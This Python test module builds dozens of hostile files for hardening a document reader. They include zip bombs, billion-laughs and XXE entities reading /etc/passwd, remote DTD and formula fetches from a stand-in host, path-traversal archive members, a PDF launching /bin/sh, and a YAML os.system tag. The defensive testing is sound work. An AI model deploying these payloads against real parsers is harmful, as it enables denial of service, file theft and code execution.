"""Bombs and traps: files built to exhaust, mislead or run something in whoever reads them."""

from __future__ import annotations

import io
import json
import string
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import openpyxl

CANARY = "/etc/passwd"

_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_STRINGS_TYPE = (
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument'
    b'.spreadsheetml.sharedStrings+xml"/></Types>'
)
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@dataclass(frozen=True)
class Trap:
    """A file and what may become of it: refused with a reason, or read with these words in it."""

    name: str
    data: bytes
    refused: bool | None = None
    """True: must be refused; False: must be read; None: either, as long as nothing else happens."""
    reads: str = ""
    never: str = ""
    """Must not appear in the text."""


def word(body: str, *, doctype: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """A Word file with this XML inside its body."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _RELS)
        archive.writestr(
            "word/document.xml",
            f'<?xml version="1.0"?>{doctype}<w:document {_W}><w:body>{body}</w:body></w:document>',
        )
        for name, data in (more or {}).items():
            archive.writestr(name, data)
    return target.getvalue()


def odt(body: str, *, doctype: str = "", meta: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """An OpenDocument text with this XML inside its body."""
    names = (
        "".join(
            f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
            for name in ("office", "text", "table", "meta")
        )
        + ' xmlns:dc="http://purl.org/dc/elements/1.1/"'
    )
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text", zipfile.ZIP_STORED)
        archive.writestr(
            "content.xml",
            f'<?xml version="1.0"?>{doctype}<office:document-content{names}><office:body><office:text>{body}'
            "</office:text></office:body></office:document-content>",
        )
        if meta:
            archive.writestr(
                "meta.xml",
                f"<office:document-meta{names}><office:meta>{meta}</office:meta></office:document-meta>",
            )
        for name, data in (more or {}).items():
            archive.writestr(name, data)
    return target.getvalue()


def xlsx(rows: str, *, doctype: str = "", strings: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """A workbook of one sheet with this XML for its rows."""
    book = openpyxl.Workbook()
    book.active.append(["x"])
    plain = io.BytesIO()
    book.save(plain)
    sheet = (
        f'<?xml version="1.0"?>{doctype}<worksheet xmlns="{_SHEET}"><sheetData>{rows}</sheetData></worksheet>'
    )
    parts = {"xl/worksheets/sheet1.xml": sheet.encode(), **(more or {})}
    if strings:
        parts["xl/sharedStrings.xml"] = f'<?xml version="1.0"?><sst xmlns="{_SHEET}">{strings}</sst>'.encode()
    target = io.BytesIO()
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(
                    name, old.read(name).replace(b"</Types>", _STRINGS_TYPE if strings else b"</Types>")
                )
        for name, data in parts.items():
            new.writestr(name, data)
    return target.getvalue()


def epub(
    chapters: list[str], *, meta: str = "", doctype: str = "", more: dict[str, bytes | str] | None = None
) -> bytes:
    """A book with these bodies of chapters, in its order; the archive holds them the other way round."""
    items = "".join(
        f'<item id="c{number}" href="text/chapter%20{number}.xhtml" media-type="application/xhtml+xml"/>'
        for number in range(len(chapters))
    )
    spine = "".join(f'<itemref idref="c{number}"/>' for number in range(len(chapters)))
    parts: dict[str, bytes | str] = {
        "META-INF/container.xml": '<?xml version="1.0"?><container xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
        '<rootfiles><rootfile full-path="OEBPS/book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
        "OEBPS/book.opf": f'<?xml version="1.0"?>{doctype}<package xmlns="http://www.idpf.org/2007/opf" version="3.0">'
        f'<metadata xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:opf="http://www.idpf.org/2007/opf">{meta}</metadata>'
        f"<manifest>{items}</manifest><spine>{spine}</spine></package>",
    }
    for number, body in reversed(list(enumerate(chapters))):
        parts[f"OEBPS/text/chapter {number}.xhtml"] = (
            '<?xml version="1.0" encoding="utf-8"?><!DOCTYPE html><html xmlns="http://www.w3.org/1999/xhtml" '
            f'xmlns:epub="http://www.idpf.org/2007/ops"><head><title>A book</title></head><body>{body}</body></html>'
        )
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/epub+zip", zipfile.ZIP_STORED)
        for name, data in (parts | (more or {})).items():
            archive.writestr(name, data)
    return target.getvalue()


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def pdf(objects: list[str | bytes], *, trailer: str = "") -> bytes:
    """A PDF file of these objects, numbered from 1; the first is its catalogue."""
    data = b"%PDF-1.7\n"
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(data))
        data += (
            f"{number} 0 obj\n".encode()
            + (body if isinstance(body, bytes) else body.encode())
            + b"\nendobj\n"
        )
    start = len(data)
    data += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    data += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    data += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()
    )
    return data


def stream(content: bytes, extra: str = "") -> bytes:
    return f"<< /Length {len(content)} {extra} >>\nstream\n".encode() + content + b"\nendstream"


def page(
    content: bytes, *, catalogue: str = "", extra: str = "", more: list[str | bytes] | None = None
) -> bytes:
    """A PDF with one page."""
    return pdf(
        [
            f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
            f"/Resources << /Font << /F1 5 0 R >> {extra} >> >>",
            stream(content),
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *(more or []),
        ]
    )


WORDS = b"BT /F1 12 Tf 50 700 Td (Plain words of the report) Tj ET"
LAUGHS = '<!DOCTYPE lolz [<!ENTITY a "haha haha haha haha">' + "".join(
    f'<!ENTITY {one} "{f"&{before};" * 10}">' for before, one in zip("abcdefgh", "bcdefghi", strict=True)
) + "]>"  # fmt: skip
OUTSIDE = f'<!DOCTYPE x [<!ENTITY x SYSTEM "file://{CANARY}">]>'
REMOTE = '<!DOCTYPE x [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>'


def _zeros_word() -> bytes:
    return word(paragraph("x"), more={"word/media/image1.bin": b"\0" * (60 << 20)})


def _many_members() -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for number in range(10_500):
            archive.writestr(f"word/{number}", b"")
    return target.getvalue()


def _overlapping() -> bytes:
    """A bomb without nesting: many directory entries that all point at one block of packed zeros."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packed.compress(b"\0" * (21 << 20)) + packed.flush()
    size, crc = 21 << 20, zlib.crc32(b"\0" * (21 << 20))
    head = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(block), size, 1, 0) + b"a" + block
    entries = b"".join(
        struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(block), size, 1, 0, 0, 0, 0, 0, 0
        )
        + b"a"
        for _ in range(500)
    )
    return head + entries + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 500, 500, len(entries), len(head), 0)


def _lying_sizes() -> bytes:
    """Its directory says that 10 MB of zeros are 10 bytes."""
    data = word(paragraph("x"), more={"word/a": b"\0" * (10 << 20)})
    return data.replace(struct.pack("<I", 10 << 20), struct.pack("<I", 10))


def _paths() -> bytes:
    return word(
        paragraph("Words of the memo"),
        more={
            "../../../../tmp/dossier-escaped": b"x",
            "/tmp/dossier-escaped": b"x",
            "..\\..\\dossier-escaped": b"x",
        },
    )


def _link_member() -> bytes:
    target = io.BytesIO(word(paragraph("Words of the memo")))
    with zipfile.ZipFile(target, "a") as archive:
        member = zipfile.ZipInfo("word/link.xml")
        member.external_attr = 0o120777 << 16
        archive.writestr(member, CANARY)
    return target.getvalue()


def _huge_image_pdf(filters: str, content: bytes) -> bytes:
    image = stream(
        content,
        f"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 {filters}",
    )
    return page(WORDS + b" q 600 0 0 800 0 0 cm /I Do Q", extra="/XObject << /I 6 0 R >>", more=[image])


def _flate_bomb_pdf() -> bytes:
    packed = zlib.compress(b"BT /F1 1 Tf (words) Tj ET " * (40 << 20 >> 5), 9)
    return pdf(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            stream(packed, "/Filter /FlateDecode"),
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def _nested_flate_pdf() -> bytes:
    data = b"\0" * (60 << 20)
    for _ in range(3):
        data = zlib.compress(data, 9)
    return pdf(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            stream(data, "/Filter [/FlateDecode /FlateDecode /FlateDecode]"),
        ]
    )


def _page_loop() -> bytes:
    return pdf(
        ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 99999999 >>"]
    )


def _form_loop() -> bytes:
    form = stream(
        b"/X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return page(WORDS + b" /X Do", extra="/XObject << /X 6 0 R >>", more=[form])


def _cell(place: str) -> str:
    """A row with this cell alone."""
    row = place.lstrip(string.ascii_uppercase)
    return f"<row r='{row}'><c r='{place}' t='inlineStr'><is><t>Plain words</t></is></c></row>"


def _mail(head: str, body: str) -> bytes:
    return f"From: A <a@example.org>\nSubject: A message\n{head}\n\n{body}".encode()


def _nested_mail(depth: int) -> bytes:
    lines = ["From: a@example.org", "Subject: deep"]
    for number in range(depth):
        lines += [f'Content-Type: multipart/mixed; boundary="b{number}"', "", f"--b{number}"]
    lines += ["Content-Type: text/plain", "", "words"]
    return "\n".join(lines).encode()


def _messages_in_messages(depth: int) -> bytes:
    return (b"From: a@example.org\nSubject: deep\nContent-Type: message/rfc822\n\n" * depth) + b"words"


def _image_page(source: str) -> str:
    return (
        f"<html><head><title>A page</title><link rel=stylesheet href='{source}'><style>@font-face{{src:url({source})}}"
        f"</style><base href='{source}'></head><body><article><p>Plain words of the page, enough of them to be an "
        f"article that somebody wrote about something.</p><img src='{source}'><iframe src='{source}'></iframe>"
        "</article></body></html>"
    )


def traps() -> Iterator[Trap]:
    """All of them; large ones are made when their turn comes."""
    for make in _TRAPS:
        yield make()


_TRAPS: tuple[Callable[[], Trap], ...] = (
    # Archives
    lambda: Trap("zeros.docx", _zeros_word(), True),
    lambda: Trap("many-members.docx", _many_members(), True),
    lambda: Trap("overlapping.docx", _overlapping(), True),
    lambda: Trap("lying-sizes.docx", _lying_sizes(), True),
    lambda: Trap("paths.docx", _paths(), None),
    lambda: Trap("link.docx", _link_member(), None, never="root:"),
    lambda: Trap("nested.docx", word(paragraph("Words of the memo"), more={"a.zip": word("", more={"b.zip": word("")})}), False, "Words of the memo"),
    lambda: Trap("cut.docx", word(paragraph("x"))[:-30], True),
    lambda: Trap("empty.docx", b"", True),
    lambda: Trap("no-archive.docx", b"PK\3\4" + b"x" * 100, True),
    lambda: Trap("encrypted-flag.docx", word(paragraph("x")).replace(b"PK\1\2\x14\3\x14\0\0\0", b"PK\1\2\x14\3\x14\0\1\0"), True),
    # XML
    lambda: Trap("laughs.docx", word(paragraph("&i;"), doctype=LAUGHS), True),
    lambda: Trap("outside.docx", word(paragraph("&x;"), doctype=OUTSIDE), True, never="root:"),
    lambda: Trap("remote.docx", word(paragraph("x"), doctype=REMOTE), True),
    lambda: Trap("late-doctype.docx", word(paragraph("&x;"), doctype="<!--" + " " * 9000 + "-->" + OUTSIDE), True, never="root:"),
    lambda: Trap("utf16-doctype.docx", word("", more={"word/footnotes.xml": ("<?xml version='1.0' encoding='utf-16'?>" + LAUGHS + "<x>&i;</x>").encode("utf-16")}), None),
    lambda: Trap("deep.docx", word("<w:p>" * 100_000 + "</w:p>" * 100_000), True),
    lambda: Trap("outside-template.docx", word(paragraph("Words of the memo"), more={"word/_rels/document.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://192.0.2.1/x.dotm" TargetMode="External"/></Relationships>'}), False, "Words of the memo"),
    lambda: Trap("laughs.html", (LAUGHS + "<html><body><p>&i; and plain words of the page</p></body></html>").encode(), None, never="haha haha haha haha haha haha haha haha"),
    lambda: Trap("outside.html", (OUTSIDE + "<html><body><p>&x; and plain words of the page</p></body></html>").encode(), None, never="root:"),
    # Web pages
    lambda: Trap("deep.html", b"<div>" * 200_000 + b"words", True),
    lambda: Trap("deep-json.html", b"<html><head><script type='application/ld+json'>" + b"[" * 100_000 + b"</script></head><body><p>Plain words of the page, enough to be read.</p></body></html>", False, "Plain words"),
    lambda: Trap("deep-json-objects.html", ("<html><head><script type='application/ld+json'>" + '{"a":' * 100_000 + "</script></head><body><p>Plain words of the page, enough to be read.</p></body></html>").encode(), False, "Plain words"),
    lambda: Trap("remote.html", _image_page("http://192.0.2.1/x").encode(), False, "Plain words"),
    lambda: Trap("local.html", _image_page(f"file://{CANARY}").encode(), False, "Plain words", never="root:"),
    lambda: Trap("attributes.html", b"<p " + b"a=1 " * 500_000 + b">Plain words of the page, enough to be read.</p>", None),
    lambda: Trap("unclosed.html", b"<a <b <c " * 200_000, None),
    lambda: Trap("entities.html", b"<p>" + b"&amp" * 1_000_000 + b"</p>", None),
    lambda: Trap("charset.html", b"<meta charset=zlib_codec><p>Plain words of the page, enough to be read.</p>", False, "Plain words"),
    lambda: Trap("charset-idna.html", b"<meta charset=idna><p>" + b"words " * 50_000 + b"</p>", None),
    # OpenDocument and RTF
    lambda: Trap("zeros.odt", odt("<text:p>x</text:p>", more={"Pictures/x": b"\0" * (300 << 20)}), True),
    lambda: Trap("laughs.odt", odt("<text:p>&i;</text:p>", doctype=LAUGHS), True),
    lambda: Trap("outside.odt", odt("<text:p>&x;</text:p>", doctype=OUTSIDE), True, never="root:"),
    lambda: Trap("deep.odt", odt("<text:section>" * 100_000 + "</text:section>" * 100_000), True),
    lambda: Trap("spaces.odt", odt("<text:p>Plain words" + "<text:s text:c='999999999'/>" * 1_000 + "</text:p>"), False, "Plain words"),
    lambda: Trap("columns.odt", odt("<text:p>Plain words</text:p><table:table><table:table-row><table:table-cell table:number-columns-repeated='999999999'/></table:table-row></table:table>"), False, "Plain words"),
    lambda: Trap("linked.odt", odt("<text:p>Plain words</text:p><text:section><text:section-source xmlns:x='http://www.w3.org/1999/xlink' x:href='file:///etc/passwd'/></text:section>"), False, "Plain words", never="root:"),
    lambda: Trap("deep.rtf", b"{\\rtf1 " + b"{" * 500_000 + b"words" + b"}" * 500_000 + b"}", None),
    lambda: Trap("fonts.rtf", b"{\\rtf1 " + b"\\f1 " * 200_000 + b"Plain words}", None),
    lambda: Trap("numbers.rtf", b"{\\rtf1 \\u99999999999999999999? \\bin999999999 \\uc999999999 Plain words}", None),
    lambda: Trap("line.rtf", b"{\\rtf1 " + b"word " * (4 << 20) + b"}", None),
    lambda: Trap("fields.rtf", b'{\\rtf1 Plain words {\\field{\\*\\fldinst INCLUDETEXT "/etc/passwd"}{\\fldrslt x}}\\par}', False, "Plain words", never="root:"),
    lambda: Trap("links.rtf", b"{\\rtf1 " + b"{\\field{\\*\\fldinst{HYPERLINK " * 50_000 + b"}", None),
    # Books
    lambda: Trap("zeros.epub", epub(["<p>x</p>"], more={"x.css": b"\0" * (300 << 20)}), True),
    lambda: Trap("laughs.epub", epub(["<p>Plain words</p>"], meta="<dc:title>&i;</dc:title>", doctype=LAUGHS), True),
    lambda: Trap("late-laughs.epub", epub(["<p>Plain words</p>"], meta="<dc:title>&i;</dc:title>", doctype="<!--" + " " * 9_000 + "-->" + LAUGHS), True),
    lambda: Trap("outside.epub", epub(["<p>Plain words</p>"], more={"OEBPS/text/chapter 0.xhtml": f"<!--{' ' * 9_000}-->{OUTSIDE}<html><body><p>Plain words &x;</p></body></html>"}), None, never="root:"),
    lambda: Trap("remote.epub", epub([f"<p>Plain words</p><img src='http://192.0.2.1/x'/><iframe src='file://{CANARY}'></iframe><script src='http://192.0.2.1/x'/>"]), False, "Plain words", never="root:"),
    lambda: Trap("paths.epub", epub(["<p>Plain words</p>"], more={"OEBPS/book.opf": '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="../../../../../etc/passwd" media-type="text/html"/><item id="b" href="/etc/passwd" media-type="text/html"/><item id="c" href="file:///etc/passwd" media-type="text/html"/></manifest><spine><itemref idref="a"/><itemref idref="b"/><itemref idref="c"/></spine></package>'}), True, never="root:"),
    lambda: Trap("spine.epub", epub(["<p>Plain words</p>"], more={"OEBPS/book.opf": '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="a" href="text/chapter%200.xhtml" media-type="text/html"/></manifest><spine>' + '<itemref idref="a"/>' * 200_000 + "</spine></package>"}), False, "Plain words"),
    lambda: Trap("deep.epub", epub(["<div>" * 100_000 + "words"]), None),
    lambda: Trap("long.epub", epub(["<p>one two</p>" * 700_000] * 4), True),
    lambda: Trap("no-container.epub", epub([], more={"META-INF/container.xml": "<container/>"}), True),
    lambda: Trap("locked.epub", epub(["<p>x</p>"], more={"META-INF/encryption.xml": '<encryption xmlns:e="http://www.w3.org/2001/04/xmlenc#"><e:CipherReference URI="OEBPS/text/chapter%200.xhtml"/></encryption>'}), True),
    # Tables
    lambda: Trap("rows.csv", b"a,b\n" * 300_000, True),
    lambda: Trap("empty-rows.csv", b",\n" * 2_000_000, True),
    lambda: Trap("columns.csv", b"a," * 3_000_000, True),
    lambda: Trap("quotation.csv", b'Plain words,"' + b"one, two\n" * 50_000, False, "Plain words"),
    lambda: Trap("quotations.csv", b'"' * 5_000_000, None),
    lambda: Trap("marks.csv", b",;\t|" * 1_000_000, None),
    lambda: Trap("picture.csv", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4_000, None),
    lambda: Trap("formula.csv", b"Plain words,=HYPERLINK(\"http://192.0.2.1\"),@SUM(1)\n", False, "Plain words"),
    lambda: Trap("corner.xlsx", xlsx(_cell("A1") + _cell("XFD1048576")), None),
    lambda: Trap("corners.xlsx", xlsx("".join(_cell(f"XFD{row}") for row in range(1, 5_000))), True),
    lambda: Trap("far.xlsx", xlsx(_cell("A1") + _cell("A" + "9" * 4_000)), True),
    lambda: Trap("wide.xlsx", xlsx(_cell("A1") + _cell("ZZZZZZZ1")), True),
    lambda: Trap("size.xlsx", xlsx(_cell("A1"), more={"xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_SHEET}"><dimension ref="A1:XFD1048576"/><sheetData>{_cell("A1")}</sheetData></worksheet>'.encode()}), False, "Plain words"),
    lambda: Trap("rows.xlsx", xlsx("<row><c><v>1</v></c></row>" * 150_000), True),
    lambda: Trap("strings.xlsx", xlsx("<row><c t='s'><v>0</v></c></row>" * 90_000, strings=f"<si><t>{'long ' * 10_000}</t></si>"), True),
    lambda: Trap("no-string.xlsx", xlsx("<row><c t='s'><v>99999999</v></c></row>"), True),
    lambda: Trap("zeros.xlsx", xlsx(_cell("A1"), more={"xl/media/x": b"\0" * (300 << 20)}), True),
    lambda: Trap("laughs.xlsx", xlsx("<row><c t='inlineStr'><is><t>&i;</t></is></c></row>", doctype=LAUGHS), True),
    lambda: Trap("outside.xlsx", xlsx("<row><c t='inlineStr'><is><t>&x;</t></is></c></row>", doctype="<!--" + " " * 9000 + "-->" + OUTSIDE), None, never="root:"),
    lambda: Trap("deep.xlsx", xlsx("<row>" * 100_000 + "</row>" * 100_000), None),
    lambda: Trap("locked.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000), True),
    lambda: Trap("formula.xlsx", xlsx("<row><c t='inlineStr'><is><t>Plain words</t></is></c><c><f>WEBSERVICE(\"http://192.0.2.1\")</f></c></row>"), False, "Plain words", never="192.0.2.1"),
    lambda: Trap("date.xlsx", xlsx("<row><c t='d'><v>9999999999</v></c><c t='inlineStr'><is><t>Plain words</t></is></c></row>"), None),
    # Text
    lambda: Trap("line.txt", b"word " * (10 << 20), None),
    lambda: Trap("one-word.txt", b"x" * (50 << 20), None),
    lambda: Trap("marks.txt", ("a" + "\u0301" * 2_000_000).encode(), None),
    lambda: Trap("nonsense.txt", bytes(range(256)) * 4_000, None),
    lambda: Trap("zeros.txt", b"\0" * (20 << 20), True),
    lambda: Trap("directions.txt", ("\u202e\u2066\u202b words of a text " * 20_000).encode(), None),
    lambda: Trap("brackets.md", b"[" * 300_000 + b"(" * 300_000 + b" words", None),
    lambda: Trap("quotes.md", b">" * 300_000 + b" words", None),
    lambda: Trap("marks.md", b"![[*_`<a " * 50_000 + b" words", None),
    lambda: Trap("table.md", b"|a" * 50_000 + b"\n" + b"|-" * 50_000 + b"\n" + b"|a" * 50_000 + b"\n words", None),
    lambda: Trap("script.md", b"Plain words <script>alert(1)</script>\n\n<iframe src='file:///etc/passwd'>alert(1)</iframe>\n\n![x](file:///etc/passwd)", False, "Plain words", never="alert"),
    lambda: Trap("laughs.md", b"---\na: &a [x, x, x, x, x, x, x, x, x]\n" + b"".join(b"%c: &%c [*%c, *%c, *%c, *%c, *%c, *%c, *%c, *%c]\n" % (one, one, *[one - 1] * 8) for one in b"bcdefghijk") + b"title: *k\nauthor: *k\n---\nPlain words", False, "Plain words"),
    lambda: Trap("tags.md", b"---\ntitle: !!python/object/apply:os.system ['touch /tmp/dossier-escaped']\n---\nPlain words", False, "Plain words"),
    lambda: Trap("deep.md", b"---\na: " + b"[" * 9_000 + b"\n---\nPlain words", False, "Plain words"),
    # PDF
    lambda: Trap("script.pdf", page(WORDS, catalogue="/OpenAction << /S /JavaScript /JS (app.launchURL('http://192.0.2.1')) >>"), False, "Plain words"),
    lambda: Trap("launch.pdf", page(WORDS, catalogue="/OpenAction << /S /Launch /F (/bin/sh) >>"), False, "Plain words"),
    lambda: Trap("remote.pdf", page(WORDS, catalogue="/OpenAction << /S /URI /URI (http://192.0.2.1/) >>"), False, "Plain words"),
    lambda: Trap("flate-bomb.pdf", _flate_bomb_pdf(), None),
    lambda: Trap("nested-flate.pdf", _nested_flate_pdf(), True),
    lambda: Trap("huge-image.pdf", _huge_image_pdf("", b"\0" * 100), False, "Plain words"),
    lambda: Trap("huge-image-packed.pdf", _huge_image_pdf("/Filter /FlateDecode", zlib.compress(b"\0" * (50 << 20), 9)), False, "Plain words"),
    lambda: Trap("huge-page.pdf", page(WORDS).replace(b"600 800", b"9e9 9e9"), None),
    lambda: Trap("page-loop.pdf", _page_loop(), True),
    lambda: Trap("form-loop.pdf", _form_loop(), None),
    lambda: Trap("deep-array.pdf", pdf(["<< /Type /Catalog /Pages 2 0 R /X " + "[" * 200_000 + "]" * 200_000 + " >>", "<< /Type /Pages /Kids [] /Count 0 >>"]), True),
    lambda: Trap("locked.pdf", pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"], trailer="/Encrypt << /Filter /Standard /V 9 >>"), True),
    # Mail
    lambda: Trap("deep.eml", _nested_mail(5_000), None),
    lambda: Trap("messages.eml", _messages_in_messages(5_000), None),
    lambda: Trap("many-parts.eml", _mail('Content-Type: multipart/mixed; boundary="b"', "--b\n\nx\n" * 20_000), True),
    lambda: Trap("charset.eml", _mail("Content-Type: text/plain; charset=zlib_codec", "Plain words of the mail"), False, "Plain words"),
    lambda: Trap("header.eml", ("Subject: " + "=?utf-8?b?" * 50_000 + "\nFrom: " + "(" * 100_000 + "\n\nPlain words").encode(), None),
    lambda: Trap("addresses.eml", ("From: " + "<a@b>," * 50_000 + "\nSubject: x\n\nPlain words of the mail").encode(), None),
    lambda: Trap("page.eml", _mail("Content-Type: text/html", _image_page("http://192.0.2.1/x")), False, "Plain words"),
    lambda: Trap("date.eml", _mail("Date: " + json.dumps("9" * 5_000), "Plain words of the mail"), False, "Plain words"),
)  # fmt: skip
